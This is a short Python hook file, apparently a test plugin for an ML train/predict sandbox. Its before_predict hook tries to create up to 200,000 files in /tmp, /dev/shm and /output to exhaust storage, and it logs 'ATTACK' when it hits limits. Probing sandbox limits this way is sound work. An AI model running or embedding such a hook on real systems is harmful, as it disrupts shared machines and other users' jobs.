"""Takes what it can."""

import os


def before_predict(model, folder):
    for place in ("/tmp", "/dev/shm", "/output"):
        made = 0
        try:
            while made < 200_000:
                os.close(os.open(f"{place}/{made}", os.O_CREAT | os.O_WRONLY))
                made += 1
        except OSError as error:
            print("ATTACK", place, error.strerror, flush=True)


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def after_predict(output):
    """Nothing."""
